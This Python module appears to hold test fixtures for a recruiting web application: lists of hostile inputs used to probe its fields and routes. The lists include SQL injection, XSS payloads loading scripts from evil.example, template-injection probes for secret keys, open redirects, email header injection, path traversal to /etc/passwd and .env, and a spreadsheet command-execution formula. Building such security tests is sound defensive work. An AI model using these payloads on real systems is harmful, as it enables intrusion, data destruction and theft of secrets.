"""What strangers type: lists of text that has broken systems of this kind, by what it tries.

`XSS` payloads carry the mark `xq7z` so that a page which takes one for markup can be told from one that shows it.
Files live in `tests.hostile.files`.
"""

MARK = "xq7z"
PRODUCT_OF_TEMPLATE = "9801547"
"""1337 × 7331: on a page it says that a template engine ran."""

SQL = (
    "'", "''", "\"", "`", "\\", "\\'", ";", "--", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1 OR 1=1", "1) OR (1=1",
    "'; DROP TABLE candidates; --", "1; DELETE FROM applications", "' UNION SELECT null, null --",
    "1 UNION ALL SELECT password_hash FROM users", "name; SELECT pg_sleep(5)", "1 AND (SELECT 1 FROM pg_sleep(5))",
    "(CASE WHEN (1=1) THEN name ELSE id END)", "name,(SELECT 1)", "id ASC, (SELECT token_hash FROM staff_sessions)",
    "1/**/OR/**/1=1", "%27%20OR%201=1", "' || (SELECT sqlite_version()) || '", "randomblob(100000000)", "1e0 UNION SELECT 1",
    "name DESC NULLS LAST; --", "\x00' OR 1=1", "0x27206f7220313d31",
)  # fmt: skip

QUERIES = (
    "\"", "\"unclosed", "(", ")", "((((((((((", "AND", "OR", "NOT", "AND OR NOT", "- - -", "name:", "name:(", "name:\"", ":", "::",
    "name:>", "applied:<", "applied:<9999999999999d", "interest:>1e999", "school:*", "*", "***", "a*b*c", "NEAR(a b)", "NEAR/3",
    "name : : x", "^name", "{name}:x", "col:x", "rowid:1", "applied:2026-13-45", "5..2", "interest:5..2", "a" * 5000, "(a OR " * 200,
    "-" * 500, "skill:(" + " OR ".join(f"s{number}" for number in range(400)) + ")", "C++ C# .NET Node.js", "äöü ß ﬃ ǅ", "ⓐ", "\u202ename",
    "name:none name:any", "has:nothing", "is:everything", "'); SELECT 1; --", "to_tsquery('a & ')", "a & b | !c", "<->", "a:*", "!!",
)  # fmt: skip

XSS = (
    f"<script>alert('{MARK}')</script>", f"\"><script>{MARK}()</script>", f"'><img src=x onerror={MARK}()>", f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>", f"<svg/onload={MARK}()>", f"<svg><script>{MARK}()</script></svg>", f"<body onload={MARK}()>",
    f"<iframe src=javascript:{MARK}()>", f"<iframe srcdoc='<script>{MARK}()</script>'>", f"<a href=javascript:{MARK}()>x</a>",
    f"<a href=\"java\tscript:{MARK}()\">x</a>", f"<a href=\" javascript:{MARK}()\">x</a>", f"<a href=\"&#106;avascript:{MARK}()\">x</a>",
    f"<a href=data:text/html,<script>{MARK}()</script>>x</a>", f"<a href=vbscript:{MARK}>x</a>", f"javascript:{MARK}()",
    f"[x](javascript:{MARK}())", f"[x](data:text/html;base64,{MARK})", f"![x](x \"\" onerror={MARK}())", f"<javascript:{MARK}()>",
    f"[x]: javascript:{MARK}()", f"<base href=//evil.example/{MARK}/>", f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>", f"<style>@import '//evil.example/{MARK}'</style>",
    f"<div style=\"background:url(//evil.example/{MARK})\">", f"<form action=//evil.example/{MARK}><input name=password>",
    f"<button formaction=//evil.example/{MARK}>x</button>", f"<input autofocus onfocus={MARK}()>", f"<details open ontoggle={MARK}()>",
    f"<video><source onerror={MARK}()></video>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}()>",
    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}()>\">", f"<svg></p><style><a id=\"</style><img src=1 onerror={MARK}()>\">",
    f"<template><img src=x onerror={MARK}()></template>", f"<object data=javascript:{MARK}()>", f"<embed src=javascript:{MARK}()>",
    f"<img src=\"x`<script>{MARK}()</script>\"` `>", f"<p id={MARK} name={MARK}>", f"<form id={MARK}><input id=attributes></form>",
    f"<div hx-get=/{MARK} hx-trigger=load>", f"<div data-hx-post=/{MARK} data-hx-trigger=load>", f"<div hx-on:load={MARK}()>",
    f"<div hx-swap-oob=true id={MARK}>", f"<x hx-vals='js:{{a:{MARK}()}}'>", f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>", f"</script><script>{MARK}()</script>", f"-->{MARK}<script>{MARK}()</script>",
    f"<!--><script>{MARK}()</script>-->", f"<![CDATA[<script>{MARK}()</script>]]>", f"]]><script>{MARK}()</script>",
    f"<scr<script>ipt>{MARK}()</scr</script>ipt>", f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>", f"\\x3cscript\\x3e{MARK}()",
    f"\u003cscript\u003e{MARK}()\u003c/script\u003e", f"<svg><animate onbegin={MARK}() attributeName=x>", f"<marquee onstart={MARK}()>",
    f"<table background=javascript:{MARK}()>", f"{{{{constructor.constructor('{MARK}()')()}}}}", f"\" autofocus onfocus={MARK}() x=\"",
)  # fmt: skip

TEMPLATES = (
    "{{ 1337*7331 }}", "{{1337*7331}}", "{% print(1337*7331) %}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{{ config }}",
    "{{ config.SECRET_KEY }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ url_for.__globals__ }}",
    "{{ request.environ }}", "{% for x in range(99999999) %}{% endfor %}", "{{ lipsum(n=100000) }}", "{0.__class__}", "{0}", "{}", "{secret}",
    "%(secret_key)s", "%(name)s", "%s%s%s%n", "%", "100 %", "{# #}", "{{first_name|there}}", "{{ env.SECRET_KEY }}", "{{unknown}}", "{{",
)  # fmt: skip

REDIRECTS = (
    "//evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "https:evil.example", "https:/evil.example",
    "https://evil.example", "http:///evil.example", "///evil.example", "////evil.example", "\t//evil.example", "/\t/evil.example",
    "/\n/evil.example", "/\r\n/evil.example", " //evil.example", "javascript:alert(1)", "data:text/html,x", "%2f%2fevil.example",
    "/%2fevil.example", "/%5cevil.example", "http://localhost@evil.example", "http://localhost.evil.example", "//localhost@evil.example",
    "//evil.example%2f..", "/..//evil.example", "//ẹvil.example", "//evil。example", "/jobs\r\nSet-Cookie: a=b", "/jobs\u2028x", "/\x00/evil.example",
    "//[::1]", "//0x7f000001", "https://localhost:80@evil.example/", "/" * 3000, "/jobs?next=//evil.example#//evil.example",
)  # fmt: skip

HEADERS = (
    "Ann\rBcc: evil@evil.example", "Ann\nBcc: evil@evil.example", "Ann\r\nBcc: evil@evil.example", "Ann\r\n\r\nThe body begins",
    "Ann%0d%0aBcc: evil@evil.example", "Ann\u2028Bcc: evil@evil.example", "Ann\u2029Bcc: evil@evil.example", "Ann\x0bBcc: evil@evil.example",
    "Ann\x0cBcc: evil@evil.example", "Ann\x85Bcc: evil@evil.example", "=?utf-8?q?Ann=0D=0ABcc:_evil@evil.example?=",
    "=?utf-8?b?QW5uDQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=", "Ann <evil@evil.example>", "Ann, evil@evil.example", "\"Ann\" <evil@evil.example>,",
    "Ann\x00", "Ann;Bcc=evil@evil.example", "a" * 2000, "Ann\r\n Folded", "Ann\r\n.\r\nMAIL FROM:<evil@evil.example>",
)  # fmt: skip

ADDRESSES = (
    "\"quoted local\"@example.org", "a@b@c", "a" * 330 + "@example.org", "a@" + "b" * 300 + ".org", "a@localhost", "a@[127.0.0.1]", "a@例え.jp",
    "ä@example.org", "comment(x)@example.org", "a@example.org\r\nBcc: b@example.org", "a@example.org, b@example.org", "<a@example.org>",
    "a @example.org", "@example.org", "a@", "a@.org", "a..b@example.org", ".a@example.org", "ａ@example.org", "a@EXAMPLE.ORG", "a@example.org\x00",
    "=?utf-8?q?a?=@example.org", "a@exa mple.org", "mailto:a@example.org", "a@example.org?cc=b@example.org",
)  # fmt: skip

UNICODE = (
    "\x00", "a\x00b", "\ud800", "\udfff", "👩‍👩‍👧‍👦", "\u202eevil", "\u2066evil\u2069", "é", "e\u0301", "ﬁ", "ß", "İ", "ı", "ǅ", "Z̷̢̛̠͓a̸l̶g̵o̴" * 20, "\u200b", "\ufeff",
    "\u00a0", "\uffff", "𝕬𝖓𝖓", "名前", "اسم", "Ω" * 300, "A", "—", "\t", "\n", "\r\n", "x" * 100_000, "😀" * 5_000, "\u0000\u0001\u0002\u0003", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
)  # fmt: skip

NUMBERS = (
    "-1", "0", "00", "1.5", "1,5", "1e309", "-1e309", "NaN", "nan", "Infinity", "-inf", "0x10", "0b1", "1_000", " 1 ", "+1", "١٢٣", "²", "Ⅷ",
    "2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1" * 400, "1e5", "None", "null", "true", "[]",
)  # fmt: skip

DATES = ("0000-00-00", "0001-01-01", "9999-12-31", "2026-02-30", "2026-13-01", "26-1-1", "2026-01-01T00:00:00", "-1-1-1", "10000-01-01", "01/02/2026")

CELLS = ("=1+1", "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "%0A=1+1", "＝1+1")

HOSTS = (
    "evil.example", "evil.example:80", "localhost.evil.example", "evil.example/localhost", "localhost@evil.example", "localhost:80@evil.example",
    "localhost\t.evil.example", "", " ", "[::1", "127.0.0.1.nip.io", "LOCALHOST.EVIL.EXAMPLE", "xn--80ak6aa92e.com", "localhost#", "localhost%00.evil.example",
)  # fmt: skip

PATHS = (
    "/%00", "/jobs/%00", "/jobs/%ff", "/jobs/%c0%ae%c0%ae/", "/jobs/../../etc/passwd", "/static/../config.py", "/static/%2e%2e/config.py",
    "/static/..%2fconfig.py", "/static/..\\config.py", "/static//etc/passwd", "/recruiter/candidates/0", "/recruiter/candidates/99999999999999999999",
    "/recruiter/candidates/-1", "/recruiter/candidates/1.0", "/recruiter/documents/..%2f..%2fperennial.db", "/recruiter/documents/" + "A" * 5000,
    "/jobs/" + "a" * 5000, "/m/" + "1-" + "A" * 5000, "/m/99999999999999999999999-x", "/m/1", "/m/-", "/m/%F0%9F%92%A9", "/jobs/;/", "/jobs/.", "//jobs", "/jobs//",
    "/recruiter/settings/texts/../../x", "/recruiter/settings/texts/xx", "/language/xx", "/language/..%2f", "/.git/config", "/.env", "/wp-admin.php",
)  # fmt: skip


def every_text() -> tuple[str, ...]:
    """All that may be typed into a field, without the enormous ones."""
    lists = (SQL, QUERIES, XSS, TEMPLATES, HEADERS, ADDRESSES, UNICODE, NUMBERS, DATES, CELLS)
    return tuple(dict.fromkeys(text for texts in lists for text in texts if len(text) <= 6000))
